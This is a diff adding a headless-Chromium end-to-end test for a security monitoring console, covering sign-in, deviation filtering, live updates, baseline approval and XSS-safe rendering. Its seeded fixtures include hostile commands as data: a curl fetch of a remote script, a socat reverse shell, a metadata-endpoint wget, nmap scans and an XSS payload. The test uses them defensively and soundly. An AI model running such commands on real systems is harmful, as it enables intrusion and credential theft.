@@ -1,0 +1,203 @@
+/**
+ * The web console in headless Chromium, against a real API, engine and store: sign in, filter,
+ * a deviation arriving live, its page, approving a baseline from its diff, the audit log — and
+ * attacker-controlled strings rendered as inert text. Saves screenshots to docs/screenshots/.
+ */
+import { existsSync, mkdirSync } from 'node:fs';
+import t from 'tap';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import { packagePath } from '../../common/paths.js';
+import { AgentsTable } from '../../collector/store/agents.js';
+import { HOUR, net, proc, startHarness, workload, type Harness } from '../api/harness.js';
+
+const CHROMIUM = '/usr/bin/chromium';
+const SHOTS = packagePath('docs', 'screenshots');
+const EVIL = '<script>window.__xss=1</script> "><img src=x onerror="window.__xss=2"> \u001b[31mred\u001b[0m';
+
+/** A small cluster as of now: three namespaces, one workload relearned, a dozen deviations. */
+function scene(h: Harness): { api: ReturnType<typeof workload>; apiGen2: number } {
+  const now = Date.now();
+  const web = workload('shop', 'web');
+  const api = workload('shop', 'api');
+  const pay = workload('payments', 'ledger');
+  const mon = workload('monitoring', 'exporter');
+  h.ingest(
+    proc(web, now - 10 * HOUR, '/usr/sbin/nginx', '-g daemon off;'),
+    net(web, now - 10 * HOUR + 1, 'listen', null, 8080),
+    proc(api, now - 10 * HOUR + 2, '/app/server', '--port 9000'),
+    proc(api, now - 10 * HOUR + 3, '/usr/bin/python3', 'manage.py migrate'),
+    net(api, now - 10 * HOUR + 4, 'egress', '10.96.0.10', 53),
+    proc(pay, now - 10 * HOUR + 5, '/usr/local/bin/ledger'),
+    proc(mon, now - 10 * HOUR + 6, '/bin/node_exporter'),
+  );
+  h.engine.tick(now - 8 * HOUR);
+  h.engine.flushEvents();
+  // api is relearned: its second generation stops running migrations and calls the payments API.
+  h.engine.relearn(api, 'token:admin', 'new release');
+  h.ingest(
+    proc(api, now - 6 * HOUR, '/app/server', '--port 9000'),
+    net(api, now - 6 * HOUR + 1, 'egress', '10.96.0.10', 53),
+    net(api, now - 6 * HOUR + 2, 'egress', '10.96.14.2', 8443),
+  );
+  h.engine.tick(now - 4 * HOUR);
+  h.engine.flushEvents();
+  const raised: [ReturnType<typeof workload>, number, Parameters<typeof proc>[2], string][] = [
+    [web, 3.5, '/bin/bash', '-i'],
+    [web, 3.2, '/usr/bin/curl', '-fsSL http://198.51.100.23/x.sh'],
+    [web, 3.0, '/tmp/.x/kworker', EVIL],
+    [pay, 2.5, '/usr/bin/apt-get', 'install -y nmap'],
+    [pay, 2.0, '/usr/bin/nmap', '-sS 10.244.0.0/16'],
+    [mon, 1.5, '/usr/bin/wget', 'http://169.254.169.254/latest/meta-data/'],
+    [api, 1.0, '/usr/local/bin/report', '--daily'],
+  ];
+  for (const [w, hoursAgo, exe, args] of raised) h.raise(proc(w, now - hoursAgo * HOUR, exe, args, { parent: '/usr/bin/containerd-shim' }));
+  h.raise(net(web, now - 0.8 * HOUR, 'egress', '203.0.113.77', 4444, { exe: '/bin/bash' }));
+  h.raise(net(mon, now - 0.5 * HOUR, 'egress', '192.0.2.10', 443, { exe: '/bin/node_exporter', peerName: 'telemetry.example.net' }));
+  const agents = new AgentsTable(h.db);
+  const at = new Date(now - 20_000).toISOString();
+  agents.hello({ instanceId: 'a-node-1', node: 'node-1', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc'] }, at);
+  agents.hello({ instanceId: 'a-node-2', node: 'node-2', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc', 'falco-http'] }, at);
+  agents.hello({ instanceId: 'a-node-3', node: 'node-3', cluster: 'test', version: '0.1.0', sources: ['falco-http'] }, new Date(now - 3 * HOUR).toISOString());
+  h.db.run("UPDATE agents SET connected = 0 WHERE instance_id = 'a-node-3'");
+  return { api, apiGen2: h.baselineOf(api) };
+}
+
+async function shot(page: Page, name: string): Promise<void> {
+  await page.waitForLoadState('networkidle');
+  await page.evaluate(() => document.getElementById('toast')?.replaceChildren());
+  await page.screenshot({ path: `${SHOTS}/${name}.png`, fullPage: false });
+}
+
+t.test('the console in Chromium', { skip: existsSync(CHROMIUM) ? false : `no ${CHROMIUM} (apt-get install -y chromium)` }, async (t) => {
+  mkdirSync(SHOTS, { recursive: true });
+  const h = await startHarness(t);
+  const { apiGen2 } = scene(h);
+  const browser: Browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
+  t.teardown(() => browser.close());
+  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
+  const page = await context.newPage();
+  const problems: string[] = [];
+  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
+  page.on('console', (m) => {
+    if (m.type() === 'error' && !/401|403|409/.test(m.text())) problems.push(`console: ${m.text()}`);
+  });
+  page.on('dialog', (d) => void d.accept());
+  await page.route(/^(?!http:\/\/127\.0\.0\.1)/, (route) => {
+    problems.push(`external request: ${route.request().url()}`);
+    return route.abort();
+  });
+
+  // Sign in.
+  await page.goto(`${h.base}/ui/`);
+  await page.waitForSelector('form.signin');
+  await shot(page, 'signin');
+  await page.fill('#token', 'dw_wrong');
+  await page.click('form.signin button[type=submit]');
+  await page.waitForSelector('form.signin .error:not(:empty)');
+  await page.fill('#token', h.tokens.admin);
+  await page.click('form.signin button[type=submit]');
+  await page.waitForSelector('h1:text("Overview")');
+  await page.waitForSelector('#live.state-live');
+  t.equal(await page.textContent('#who'), 'admin (admin)');
+  t.equal(await page.evaluate(() => sessionStorage.getItem('driftwatch.token')?.startsWith('dw_')), true, 'the token is kept in sessionStorage');
+  t.equal(await page.evaluate(() => localStorage.length), 0, 'and nowhere else');
+  await shot(page, 'overview');
+
+  // Deviations, filtered through the form: the filters go into the URL.
+  await page.click('a[data-nav=deviations]');
+  await page.waitForSelector('table.grid tbody tr');
+  const all = await page.locator('table.grid tbody tr').count();
+  t.equal(all, 9);
+  await page.selectOption('select[name=minSeverity]', 'high');
+  await page.waitForURL(/minSeverity=high/);
+  await page.waitForFunction((n) => document.querySelectorAll('table.grid tbody tr').length < n, all);
+  const severities = await page.locator('table.grid tbody tr td:first-child').allTextContents();
+  t.ok(severities.length > 0 && severities.every((s) => s === 'high' || s === 'critical'), `only high and up: ${severities.join(',')}`);
+  await page.fill('input[name=namespace]', 'shop');
+  await page.press('input[name=namespace]', 'Enter');
+  await page.waitForURL(/namespace=shop/);
+  await page.waitForFunction(() => [...document.querySelectorAll('table.grid tbody tr td:nth-child(3)')].every((td) => td.textContent?.startsWith('shop/')));
+  // Reloading keeps the filters (they are in the URL).
+  await page.reload();
+  await page.waitForSelector('table.grid tbody tr');
+  t.equal(await page.inputValue('select[name=minSeverity]'), 'high');
+  t.equal(await page.inputValue('input[name=namespace]'), 'shop');
+
+  // Attacker strings are text: no element, no script ran, the markup is visible as characters.
+  t.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined, 'no injected script ran');
+  t.equal(await page.locator('table.grid img').count(), 0, 'no injected element');
+  const evilRow = page.locator('table.grid tbody tr', { hasText: '/tmp/.x/kworker' });
+  t.match(await evilRow.textContent(), '<script>window.__xss=*</script> "><img src=x onerror="window.__xss=*">', 'the markup shows as text');
+  await shot(page, 'deviations');
+
+  // A new deviation arrives live, without a reload.
+  await page.evaluate(() => ((window as unknown as { __marker: number }).__marker = 42));
+  const now = Date.now();
+  const live = h.raise(proc(workload('shop', 'web'), now, '/usr/bin/socat', 'tcp:198.51.100.9:9001 exec:/bin/sh'));
+  await page.waitForSelector(`table.grid tbody tr[data-id="${live.id}"]`);
+  t.equal(await page.evaluate(() => (window as unknown as { __marker?: number }).__marker), 42, 'the page was not reloaded');
+  t.equal(await page.locator('table.grid tbody tr').first().getAttribute('data-id'), String(live.id), 'the new row is on top');
+  // One that does not match the filters does not appear.
+  const quiet = h.raise(proc(workload('payments', 'ledger'), now + 1, '/usr/bin/true'));
+  await page.waitForTimeout(300);
+  t.equal(await page.locator(`table.grid tbody tr[data-id="${quiet.id}"]`).count(), 0, 'filtered out live too');
+
+  // Keyboard: j moves to the first row, Enter opens it.
+  await page.click('h1');
+  await page.keyboard.press('j');
+  await page.keyboard.press('Enter');
+  await page.waitForSelector('h2:text("Process tree")');
+  t.match(page.url(), new RegExp(`#/deviations/${live.id}$`));
+  await page.goBack();
+
+  // Open the attacker's deviation.
+  await page.click('table.grid tbody tr:has-text("/tmp/.x/kworker") a');
+  await page.waitForSelector('h2:text("Process tree")');
+  t.match(await page.textContent('ul.tree'), '/usr/bin/containerd-shim');
+  t.match(await page.textContent('ul.tree li.self'), '<script>window.__xss=1</script>');
+  t.equal(await page.locator('main img').count(), 0);
+  t.equal(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), undefined);
+  await shot(page, 'deviation');
+  await page.fill('#comment', 'investigating with the shop team');
+  await page.click('button[data-action=ack]');
+  await page.waitForSelector('.badge.status-acknowledged');
+
+  // The relearned workload: approve its new generation from the diff.
+  await page.goto(`${h.base}/ui/#/baselines/${apiGen2}`);
+  await page.waitForSelector('ul.diff li.added');
+  const added = await page.locator('ul.diff li.added code').allTextContents();
+  const removed = await page.locator('ul.diff li.removed code').allTextContents();
+  t.ok(added.includes('n|egress|tcp|8443|ip|10.96.14.2'), `added: ${added.join(' ')}`);
+  t.ok(removed.includes('p|/usr/bin/python3'), `removed: ${removed.join(' ')}`);
+  await shot(page, 'baseline-diff');
+  await page.fill('#decision-comment', 'payments client is expected in release 42');
+  await page.click('button[data-action=approve]');
+  await page.waitForSelector('h1 .badge.phase-approved');
+
+  // The approval is in the audit log.
+  await page.click('a[data-nav=audit]');
+  await page.waitForSelector('table.grid tbody tr');
+  const approval = page.locator('table.grid tbody tr', { hasText: 'baseline.approve' });
+  t.equal(await approval.count(), 1);
+  t.match(await approval.textContent(), 'payments client is expected in release 42');
+  t.match(await approval.textContent(), 'token:admin');
+  await shot(page, 'audit');
+
+  await page.click('a[data-nav=workloads]');
+  await page.waitForSelector('table.grid tbody tr');
+  await shot(page, 'workloads');
+  await page.click('a[data-nav=agents]');
+  await page.waitForSelector('table.grid tbody tr');
+  await shot(page, 'agents');
+
+  // A scoped viewer sees its namespace only, and no action buttons.
+  await page.click('#signout');
+  await page.waitForSelector('form.signin');
+  await page.fill('#token', h.tokens.otherViewer);
+  await page.click('form.signin button[type=submit]');
+  await page.waitForSelector('#who:text("team-b-viewer")');
+  await page.goto(`${h.base}/ui/#/deviations`);
+  await page.waitForSelector('p[role=status]:not(:empty)');
+  t.equal(await page.locator('table.grid tbody tr').count(), 0, 'team-b has no deviations');
+  t.same(problems, [], 'no page errors, no external requests');
+});
